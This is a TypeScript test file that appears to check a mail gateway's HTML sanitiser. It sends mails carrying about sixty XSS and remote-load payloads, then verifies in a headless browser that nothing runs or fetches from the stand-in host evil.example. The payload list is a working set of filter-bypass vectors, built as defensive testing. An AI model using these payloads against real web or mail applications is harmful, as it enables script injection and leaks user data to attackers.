import { expect } from 'chai';
import { type Browser, chromium, type Page } from 'playwright-core';
import { type Dovecot, startDovecot } from '../support/dovecot.ts';
import { mail } from '../support/email.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { makeMailbox, untilStored } from './mailboxes.ts';

const EVIL = 'https://evil.example/x';
const RUN = `window.ran=1;fetch('${EVIL}')`;
const MARK = 'Readable words';

/** Ways to run something, or to have something loaded, once the mail is shown. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${EVIL}"></sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="${EVIL}">`,
  `<img srcset="${EVIL} 1x" src="">`,
  `<img src="//evil.example/x">`,
  `<img src="\\\\evil.example/x">`,
  `<img src="ht\ntps://evil.example/x">`,
  `<image src="${EVIL}">`,
  `<input type=image src="${EVIL}">`,
  `<picture><source srcset="${EVIL}"><img></picture>`,
  `<video poster="${EVIL}" src="${EVIL}" autoplay></video>`,
  `<audio src="${EVIL}" autoplay onerror="${RUN}"></audio>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}"><link rel=prefetch href="${EVIL}">`,
  `<style>@import url(${EVIL}); body { background: url(${EVIL}) }</style>`,
  `<style>@font-face { font-family: x; src: url(${EVIL}) } p { font-family: x }</style>`,
  `<p style="background:url(${EVIL})">a</p>`,
  `<p style="background:u\\72l('${EVIL}')">a</p>`,
  `<p style="background-image:image-set('${EVIL}' 1x)">a</p>`,
  `<p style="background:/**/url/**/(${EVIL})">a</p>`,
  `<p style="list-style:url(${EVIL});display:list-item">a</p>`,
  `<p style="content:url(${EVIL})">a</p>`,
  `<p style="cursor:url(${EVIL}),auto">a</p>`,
  `<p style="--a:url(${EVIL});background:var(--a)">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<table background="${EVIL}"><tr><td background="${EVIL}">a</td></tr></table>`,
  `<body background="${EVIL}" onload="${RUN}">`,
  `<svg onload="${RUN}"><image href="${EVIL}"/></svg>`,
  `<svg><script>${RUN}</script><use href="${EVIL}#a"/></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><img src=x onerror="${RUN}"></textarea>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<title><img src=x onerror="${RUN}"></title>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="${EVIL}"?>`,
  `<base href="https://evil.example/"><img src="x">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><input autofocus onfocus="${RUN}"><button>Go</button></form>`,
  `<a href="javascript:${RUN}">a</a><a href="java\tscript:${RUN}">b</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a ping="${EVIL}" href="https://shop.example">a</a>`,
  `<div contenteditable autofocus tabindex=0 onfocus="${RUN}">a</div>`,
  `<details open ontoggle="${RUN}">a</details>`,
  `<marquee onstart="${RUN}">a</marquee>`,
  `<p style="animation:a 1s" onanimationstart="${RUN}">a</p>`,
  `<select><style><img src=x onerror="${RUN}"></style></select>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<p id="x" title='"><img src=x onerror=${RUN}>'>a</p>`,
  `<div title="&quot;><img src=x onerror=${RUN}>">a</div>`,
  `<plaintext><img src=x onerror="${RUN}">`,
];

/** Run in the page: focuses everything, sends what handlers may wait for, and tells what ran. */
const TOUCH = `(async () => {
  for (const element of document.querySelectorAll('body, body *')) {
    element.focus();
    for (const type of ['mouseover', 'mouseenter', 'wheel', 'animationstart', 'toggle'])
      element.dispatchEvent(new Event(type, { bubbles: true }));
  }
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return window.ran;
})()`;

describe('hostile HTML in a browser', () => {
  let gateway: TestGateway;
  let dovecot: Dovecot;
  let browser: Browser;
  before(async () => {
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] });
    [gateway, dovecot] = await Promise.all([startTestGateway(), startDovecot()]);
  });
  after(async () => {
    await browser.close();
    await gateway.stop();
    await dovecot[Symbol.asyncDispose]();
  });

  /** What the API shows of each payload, as HTML, when it came as a mail. */
  async function shownByApi(): Promise<string[]> {
    await dovecot.as('hostile', async (client) => {
      for (const [n, payload] of PAYLOADS.entries()) {
        const headers = { Subject: `P${n}`, 'Message-ID': `<p${n}@c.example>`, 'Content-Type': 'text/html' };
        await client.append('INBOX', mail(headers, `<p>${MARK}</p>${payload}`));
      }
    });
    let channel = '';
    await untilStored(gateway, PAYLOADS.length, async () => {
      channel = await makeMailbox(gateway, dovecot, 'hostile');
    });
    const { body } = await gateway.admin.get(`/tickets?channel=${channel}&limit=200`);
    const pages: string[] = [];
    for (const { id } of body.items) {
      const { body: messages } = await gateway.admin.get(`/tickets/${id}/messages`);
      pages.push(messages.items[0].html);
    }
    return pages;
  }

  /** Everything the page asked for, and whether anything ran, after it was shown and touched. */
  async function touch(page: Page, html: string, requests: string[]): Promise<unknown> {
    requests.length = 0;
    await page.setContent(html, { waitUntil: 'load' });
    return page.evaluate(TOUCH);
  }

  it('neither runs nor loads anything, in a page without any further protection', async () => {
    const pages = await shownByApi();
    expect(pages).to.have.length(PAYLOADS.length);
    const page = await browser.newPage();
    const requests: string[] = [];
    await page.route('**', (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    for (const html of pages) {
      const ran = await touch(page, html, requests);
      expect({ ran, requests }, html).to.deep.equal({ ran: undefined, requests: [] });
      expect(await page.locator('body').innerText(), html).to.contain(MARK);
    }
  });

  it('would notice if something ran or loaded', async () => {
    const page = await browser.newPage();
    const requests: string[] = [];
    await page.route('**', (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    expect(await touch(page, `<script>${RUN}</script><img src="${EVIL}">`, requests)).to.equal(1);
    expect(requests).to.include(EVIL);
  });
});
